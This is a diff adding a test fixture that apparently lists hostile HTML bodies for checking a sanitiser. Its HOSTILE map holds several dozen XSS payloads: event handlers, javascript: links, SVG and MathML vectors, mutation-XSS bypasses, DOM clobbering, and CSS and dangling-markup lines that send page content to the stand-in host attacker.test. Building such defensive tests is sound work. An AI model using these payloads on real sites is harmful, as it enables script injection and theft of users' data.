@@ -1,0 +1,46 @@
+/** Whose server no page may ask for anything. */
+export const ATTACKER = 'https://attacker.test';
+/** A body that runs calls this when it runs; also asks the attacker's server, which no page may reach. */
+const RUN = `window.attacked('ran')`;
+
+/** Bodies that have run something, somewhere, in one parser or sanitiser or another. */
+export const HOSTILE = {
+  script: `<script>${RUN}</script>`,
+  'script from elsewhere': `<script src="${ATTACKER}/a.js"></script>`,
+  'script in pieces': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  onerror: `<img src="data:," onerror="${RUN}">`,
+  'onerror with a slash': `<img/src="data:,"/onerror=${RUN}>`,
+  onload: `<body onload="${RUN}"><svg onload="${RUN}"></svg>`,
+  'javascript link': `<a href="javascript:${RUN}">x</a>`,
+  'javascript link with bytes': `<a href="\u0001 jav&#x09;ascript&colon;${RUN}">x</a>`,
+  'vbscript link': `<a href="vbscript:${RUN}">x</a>`,
+  'data link': `<a href="data:text/html,<script>opener.attacked('ran')</script>">x</a>`,
+  'blob link': `<a href="blob:${ATTACKER}/1">x</a>`,
+  srcdoc: `<iframe srcdoc="<script>parent.attacked('ran')</script>"></iframe>`,
+  'frame from elsewhere': `<iframe src="${ATTACKER}/f"></iframe><frameset><frame src="${ATTACKER}/f"></frameset>`,
+  object: `<object data="${ATTACKER}/o"></object><embed src="${ATTACKER}/e"><applet code="x"></applet>`,
+  'SVG script': `<svg><script>${RUN}</script></svg>`,
+  'SVG animation': `<svg><a><animate attributeName="href" values="javascript:${RUN}" /><text y="20">x</text></a></svg>`,
+  'SVG use': `<svg><use href="${ATTACKER}/s.svg#a"></use><image href="${ATTACKER}/i.png" /></svg>`,
+  foreignObject: `<svg><foreignObject><img src="data:," onerror="${RUN}"></foreignObject></svg>`,
+  MathML: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
+  'mXSS by style in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=${RUN}&gt;">`,
+  'mXSS by noscript': `<noscript><p title="</noscript><img src=data:, onerror=${RUN}>"></noscript>`,
+  'mXSS by textarea': `<svg><textarea><style><img title="</textarea><img src=data:, onerror=${RUN}>"></style></textarea></svg>`,
+  'mXSS by form': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src=data:,>">`,
+  'mXSS by template': `<template><s><template><s><img src="data:," onerror="${RUN}">@</s></template></s></template>`,
+  'CSS exfiltration': `<style>@import '${ATTACKER}/c.css'; * {background: url(${ATTACKER}/b)}</style><p style="background:url(${ATTACKER}/p)">x</p>`,
+  'style sheet': `<link rel="stylesheet" href="${ATTACKER}/l.css"><link rel="preload" as="image" href="${ATTACKER}/l.png">`,
+  'dangling markup': `<img src='${ATTACKER}/?taken=<p>the rest of the page</p>'>`,
+  'unclosed dangling markup': `<p>x</p><img src='${ATTACKER}/?taken=<p>the rest`,
+  'counter of one pixel': `<img src="${ATTACKER}/c.gif" width="1" height="1">`,
+  'other sources of pictures': `<picture><source srcset="${ATTACKER}/s.png"></picture><img srcset="${ATTACKER}/t.png 1x" alt="">`,
+  media: `<video src="${ATTACKER}/v" poster="${ATTACKER}/p" onerror="${RUN}"></video><audio src="${ATTACKER}/a"></audio>`,
+  'meta refresh': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}"><base href="${ATTACKER}/">`,
+  'form and focus': `<form action="javascript:${RUN}"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
+  'details toggle': `<details open ontoggle="${RUN}">x</details>`,
+  'DOM clobbering': `<form id="body"><input name="attributes"><img name="firstChild" src="data:,"></form><a id="document" href="cid:x">x</a>`,
+  'custom element': `<news-article api="${ATTACKER}/" article="x"></news-article><slot name="x" onslotchange="${RUN}"></slot>`,
+  'declarative shadow root': `<div><template shadowrootmode="open"><script>${RUN}</script><img src="data:," onerror="${RUN}"></template></div>`,
+  ping: `<a href="https://congan.danvan.test/" ping="${ATTACKER}/ping" target="_top" onclick="${RUN}">x</a>`,
+};
